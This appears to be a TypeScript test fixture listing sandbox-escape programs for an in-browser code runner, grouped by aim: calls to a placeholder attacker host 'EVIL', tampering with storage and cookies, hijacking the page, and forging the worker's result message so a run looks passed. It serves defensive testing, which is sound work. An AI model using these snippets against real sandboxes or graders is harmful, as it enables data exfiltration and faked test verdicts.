/** What must not happen. */
export type Aim =
  /** Something of the program reaches another server. */
  | 'network'
  /** The site's storage is read or changed. */
  | 'storage'
  /** The page, its address, windows or dialogs change. */
  | 'page'
  /** The page takes the program's word for how it ended, or what it measured. */
  | 'verdict';

export interface Attack {
  id: string;
  aim: Aim;
  /** `EVIL` stands for the attacker's server, as `http://host:port`. */
  code: string;
}

/**
 * Programs that try to get out. Each alone in a run; none may reach its aim. A program may fail or be ended: only
 * the aim counts.
 */
export const attacks: readonly Attack[] = [
  { id: 'fetch', aim: 'network', code: 'await fetch("EVIL/fetch", { mode: "no-cors" });' },
  { id: 'fetch of the browser', aim: 'network', code: 'await (self ?? globalThis).fetch("EVIL/self");' },
  {
    id: 'XMLHttpRequest',
    aim: 'network',
    code: 'const x = new XMLHttpRequest(); x.open("GET", "EVIL/xhr"); x.send(); await new Promise((r) => setTimeout(r, 300));',
  },
  {
    id: 'synchronous XMLHttpRequest',
    aim: 'network',
    code: 'const x = new XMLHttpRequest(); x.open("GET", "EVIL/sync-xhr", false); x.send();',
  },
  {
    id: 'WebSocket',
    aim: 'network',
    code: 'new WebSocket("EVIL/socket".replace("http", "ws")); await new Promise((r) => setTimeout(r, 300));',
  },
  {
    id: 'EventSource',
    aim: 'network',
    code: 'new EventSource("EVIL/events"); await new Promise((r) => setTimeout(r, 300));',
  },
  { id: 'importScripts', aim: 'network', code: 'importScripts("EVIL/import-scripts.js");' },
  { id: 'dynamic import', aim: 'network', code: 'await import("EVIL/dynamic.js");' },
  {
    id: 'dynamic import of a built name',
    aim: 'network',
    code: 'await import(["EVIL", "built.js"].join("/"));',
  },
  { id: 'static import', aim: 'network', code: 'import "EVIL/static.js";' },
  { id: 'export from', aim: 'network', code: 'export * from "EVIL/export.js";' },
  {
    id: 'nested worker',
    aim: 'network',
    code: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/nested\')"]))); await new Promise((r) => setTimeout(r, 500));',
  },
  { id: 'FontFace', aim: 'network', code: 'await new FontFace("x", "url(EVIL/font.woff)").load();' },
  { id: 'WebTransport', aim: 'network', code: 'await new WebTransport("EVIL/transport").ready;' },
  { id: 'sendBeacon', aim: 'network', code: 'navigator.sendBeacon("EVIL/beacon", "x");' },
  { id: 'Image', aim: 'network', code: 'new Image().src = "EVIL/image";' },
  {
    id: 'Request of a response',
    aim: 'network',
    code: 'await new Response(new Request("EVIL/request").body).text();',
  },
  {
    id: 'WebAssembly stream',
    aim: 'network',
    code: 'await WebAssembly.compileStreaming(fetch("EVIL/wasm"));',
  },
  {
    id: 'evaluated text',
    aim: 'network',
    code: 'try { (0, eval)("import(\'EVIL/eval.js\')"); } catch {} new Function("return import(\'EVIL/function.js\')")();',
  },
  {
    id: 'constructor of an async function',
    aim: 'network',
    code: 'await (async () => {}).constructor("return import(\'EVIL/async-function.js\')")();',
  },
  {
    id: 'import within a blob module',
    aim: 'network',
    code: 'await import(URL.createObjectURL(new Blob(["import \'EVIL/blob.js\'"], { type: "text/javascript" })));',
  },
  {
    id: 'text timer',
    aim: 'network',
    code: 'setTimeout("import(\'EVIL/timer.js\')", 1); await new Promise((r) => setTimeout(r, 300));',
  },
  {
    id: 'prototypes of the worker',
    aim: 'network',
    code: `for (let holder = globalThis; holder; holder = Object.getPrototypeOf(holder)) {
  for (const name of ['fetch', 'importScripts', 'Worker', 'XMLHttpRequest']) {
    const found = Reflect.get(holder, name, globalThis);
    if (typeof found !== 'function') continue;
    try { await found.call(globalThis, 'EVIL/' + name); } catch {}
    try { new found('EVIL/new-' + name); } catch {}
  }
}`,
  },
  { id: 'a file of the site', aim: 'network', code: 'console.log(await (await fetch("SITE/")).text());' },

  { id: 'localStorage', aim: 'storage', code: 'localStorage.setItem("progress", "{}");' },
  { id: 'sessionStorage', aim: 'storage', code: 'sessionStorage.setItem("progress", "{}");' },
  { id: 'cookies', aim: 'storage', code: 'console.log(document.cookie); document.cookie = "stolen=1";' },
  { id: 'cookieStore', aim: 'storage', code: 'await cookieStore.set("stolen", "1");' },
  {
    id: 'IndexedDB',
    aim: 'storage',
    code: 'const q = indexedDB.open("site"); await new Promise((done, fail) => { q.onsuccess = done; q.onerror = () => fail(q.error); });',
  },
  {
    id: 'caches',
    aim: 'storage',
    code: 'const c = await caches.open("site"); await c.put("/", new Response("pwned"));',
  },
  {
    id: 'private file system',
    aim: 'storage',
    code: 'const d = await navigator.storage.getDirectory(); await d.getFileHandle("x", { create: true });',
  },
  {
    id: 'service worker',
    aim: 'storage',
    code: 'await navigator.serviceWorker.register("/sw.js", { scope: "/" });',
  },
  {
    id: 'BroadcastChannel',
    aim: 'storage',
    code: 'new BroadcastChannel("progress").postMessage({ type: "merge", lessons: { all: "passed" } });',
  },
  {
    id: 'locks',
    aim: 'storage',
    code: 'void navigator.locks.request("progress", () => new Promise(() => {})); await new Promise((r) => setTimeout(r, 300));',
  },

  { id: 'the document of the page', aim: 'page', code: 'parent.document.body.innerHTML = "pwned";' },
  { id: 'its own document', aim: 'page', code: 'document.body.innerHTML = "pwned";' },
  { id: 'address of the page', aim: 'page', code: 'top.location = "EVIL/top";' },
  { id: 'own address', aim: 'page', code: 'location.href = "EVIL/self?secret";' },
  { id: 'new window', aim: 'page', code: 'open("EVIL/popup");' },
  { id: 'dialogs', aim: 'page', code: 'alert(1); confirm(1); prompt(1);' },
  { id: 'notification', aim: 'page', code: 'new Notification("pwned");' },
  { id: 'history', aim: 'page', code: 'history.pushState({}, ""); history.back();' },
  {
    id: 'permissions',
    aim: 'page',
    code: 'await navigator.clipboard.readText(); navigator.geolocation.getCurrentPosition(() => {});',
  },

  {
    id: 'forged message',
    aim: 'verdict',
    code: 'self.postMessage({ type: "finished", outcome: { kind: "done", exitCode: 99 } });',
  },
  {
    id: 'forged message without self',
    aim: 'verdict',
    code: 'postMessage({ type: "finished", outcome: { kind: "done", exitCode: 99 } });',
  },
  {
    id: 'forged message to the page',
    aim: 'verdict',
    code: 'parent.postMessage({ type: "measured", passed: true }, "*");',
  },
  {
    id: 'flood of forged messages',
    aim: 'verdict',
    code: 'for (let i = 0; i < 1e5; i += 1) globalThis.postMessage({ type: "finished", outcome: { kind: "done", exitCode: 99 } });',
  },
  {
    id: 'port caught in its methods',
    aim: 'verdict',
    code: `const forged = { type: 'finished', outcome: { kind: 'done', exitCode: 99 } };
for (const prototype of [MessagePort.prototype, EventTarget.prototype]) {
  for (const name of Object.getOwnPropertyNames(prototype)) {
    const { value } = Object.getOwnPropertyDescriptor(prototype, name);
    if (typeof value !== 'function' || name === 'constructor') continue;
    prototype[name] = function (...args) {
      if (this instanceof MessagePort) value.call(this, forged);
      return value.apply(this, args);
    };
  }
}
Function.prototype.bind = Function.prototype.call = Function.prototype.apply = function () { throw forged; };
console.log('caught?');
await new Promise((resolve) => setTimeout(resolve, 50));
throw new Error('the true end');`,
  },
  {
    id: 'messages meant for the worker',
    aim: 'verdict',
    code: `addEventListener('message', ({ data, ports }) => {
  for (const port of ports) port.postMessage({ type: 'finished', outcome: { kind: 'done', exitCode: 99 } });
});
globalThis.onmessage = () => {};
await new Promise((resolve) => setTimeout(resolve, 100));
throw new Error('the true end');`,
  },
  {
    id: 'setter on Object.prototype',
    aim: 'verdict',
    code: `Object.defineProperty(Object.prototype, 'exitCode', { value: 99, writable: true });
Object.defineProperty(Object.prototype, 'then', { value: undefined, writable: true });
Array.prototype.push = function () { return 0; };
throw new Error('the true end');`,
  },
];
